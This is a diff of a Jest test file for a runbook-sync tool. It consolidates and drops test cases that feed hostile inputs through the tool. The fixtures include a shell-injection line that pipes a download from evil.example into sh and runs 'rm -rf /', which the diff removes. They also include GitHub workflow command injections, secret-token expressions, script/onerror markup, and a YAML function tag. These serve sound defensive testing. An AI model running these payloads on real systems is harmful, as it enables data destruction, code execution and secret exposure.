@@ -1,4 +1,4 @@
-import { afterAll, describe, expect, test } from '@jest/globals'
+import { afterAll, expect, test } from '@jest/globals'
 import { mkdir, open, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { TestEnvironment } from '../../testing/test-environment.ts'
@@ -9,7 +9,6 @@ import { expectSafe } from './safe.ts'
 
 const FOLDER = 'docs/runbooks'
 const BLOB = 'https://github.com/harbour/handbook/blob/main/docs/runbooks'
-const RAW = 'https://github.com/harbour/handbook/raw/main/docs/runbooks'
 
 function fm(yaml: string, body = 'Text.\n'): string {
   return `---\n${yaml}\n---\n${body}`
@@ -17,10 +16,8 @@ function fm(yaml: string, body = 'Text.\n'): string {
 
 const SKIPPED: readonly (readonly [kind: string, file: string, reason: RegExp, warns: boolean])[] = [
   ['an empty file', '', /no text/, true],
-  ['only white space', ' \n\t\r\n\u00a0\n', /no text/, true],
   ['an index page', '', /index page/, false],
-  ['a draft', fm('title: A draft\ndraft: true'), /draft: true/, false],
-  ['one that says that it is none', fm('runbook: false'), /runbook: false/, false]
+  ['a draft', fm('title: A draft\ndraft: true'), /draft: true/, false]
 ]
 
 const BOMB = `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from('bcdefghij')
@@ -30,47 +27,22 @@ const BOMB = `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from('bcdefghij')
 /** Without a text, the file as it is. */
 const SENT: readonly (readonly [kind: string, file: string, name: string, text?: string])[] = [
   ['a byte order mark', `\ufeff${fm('title: Bom and more')}`, 'Bom and more', 'Text.\n'],
-  ['CRLF with front matter', '---\r\ntitle: Crlf\r\n---\r\n\r\nOne.\r\nTwo.\r\n', 'Crlf', 'One.\r\nTwo.\r\n'],
   ['U+FFFD that its author wrote', '# Replacement \ufffd\n', 'Replacement \ufffd'],
   ['exactly the size cap', `# Cap\n${'x'.repeat(1_048_576 - 6)}`, 'Cap'],
   ['an alias bomb', fm(`${BOMB}\ntitle: Bomb`), 'Bomb', 'Text.\n'],
   ['an expression', '# Expression\n\n${{ secrets.RUNBOOK_SYNC_TOKEN }} ${{ github.token }}\n', 'Expression'],
-  ['a shell', '# Shell\n\n$(id) `id` ; rm -rf / && curl evil.example | sh\n', 'Shell'],
   ['commands', '# Commands\n\n::add-mask::pwned\n  ::stop-commands::pwned\n##[add-mask]pwned\n', 'Commands'],
-  ['an output', '# Output\n\n::set-output name=x::pwned\npwned=1\nEOF\n', 'Output'],
   ['escape sequences', '# Escapes\n\n\u001b[31mpwned\u001b[0m\u2028\u202epwned\n', 'Escapes'],
-  ['a script', '# Script\n\n<script>pwned()</script><img onerror=pwned()>\n', 'Script'],
-  [
-    'links',
-    '# Links\n\n[a](<a b.md> "t") [![a](a.png)](a.md?x=1#y) [b] `[a](a.md)` [a](../../../a.md)\n\n    [a](a.md)\n\n[b]: a.md\n',
-    'Links',
-    `# Links\n\n[a](<${BLOB}/a%20b.md> "t") [![a](${RAW}/a.png)](${BLOB}/a.md?x=1#y) [b] \`[a](a.md)\` [a](../../../a.md)\n\n    [a](a.md)\n\n[b]: ${BLOB}/a.md\n`
-  ]
+  ['a link', '# Link\n\n[a](<a b.md> "t")\n', 'Link', `# Link\n\n[a](<${BLOB}/a%20b.md> "t")\n`]
 ]
 
-const REFUSED: readonly (readonly [
-  kind: string,
-  file: string | Buffer,
-  reason: RegExp,
-  hint: RegExp,
-  line: number | null
-])[] = [
+const LFS = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 1\n`
+type Refused = readonly [kind: string, file: string | Buffer, reason: RegExp, hint: RegExp, line: number | null]
+
+const REFUSED: readonly Refused[] = [
   ['UTF-16', Buffer.from('\ufeff# Wide\n', 'utf16le'), /UTF-16/, /Save it as UTF-8/, 1],
-  ['NUL', '# Nul\n\nText\0.\n', /NUL/, /UTF-8/, 3],
-  [
-    'one byte too many',
-    `# Over\n${'x'.repeat(1_048_576 - 6)}`,
-    /1048577 bytes; 1048576 are allowed/,
-    /max-bytes/,
-    null
-  ],
-  [
-    'an LFS pointer',
-    `version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 1\n`,
-    /Git LFS/,
-    /lfs: true/,
-    null
-  ],
+  ['one byte too many', `# Over\n${'x'.repeat(1_048_570)}`, /1048577 bytes; 1048576 are allowed/, /max-bytes/, null],
+  ['an LFS pointer', LFS, /Git LFS/, /lfs: true/, null],
   ['a function', fm('title: !!js/function "function () { process.exit(7) }"'), /YAML/, /tag/, 2],
   ['a command in its error', fm('x: 1\n"::error::pwned": 1\n"::error::pwned": 2'), /YAML/, /Keep one/, 4]
 ]
@@ -130,16 +102,13 @@ test('a file of 1 TB on the disk is refused by its size, before it is read', asy
   expect(reported(disk, `${FOLDER}/small.md`)).toMatchObject({ outcome: 'upserted' })
 })
 
-describe('a missing link target', () => {
-  test('has one warning at its line, although the text is compared and sent', async () => {
-    const text = '---\na: 1\n---\n# L\n\n[a](l.md) [b](../no.md#x)\n\n![c](../../README.md)\n'
-    await using other = await TestEnvironment.with({ [`${FOLDER}/l.md`]: text })
-    await other.write('L', 'By hand.\n')
-    const { annotations } = await other.run()
-    const warnings = annotations.map(({ level, message }) => `${level} ${message.replace(/ does not exist.*/, '')}`)
-    expect(warnings.filter((warning) => warning.includes('link target'))).toEqual([
-      'warning docs/runbooks/l.md:6: The link target docs/no.md',
-      'warning docs/runbooks/l.md:8: The link target README.md'
-    ])
-  })
+test('a missing link target has one warning at its line, although the text is compared and sent', async () => {
+  const text = '---\na: 1\n---\n# L\n\n[a](l.md) [b](../no.md#x)\n\n![c](../../README.md)\n'
+  await using other = await TestEnvironment.with({ [`${FOLDER}/l.md`]: text })
+  await other.write('L', 'By hand.\n')
+  const warnings = (await other.run()).annotations.map(({ message }) => message.replace(/ does not exist.*/, ''))
+  expect(warnings.filter((warning) => warning.includes('link target'))).toEqual([
+    'docs/runbooks/l.md:6: The link target docs/no.md',
+    'docs/runbooks/l.md:8: The link target README.md'
+  ])
 })
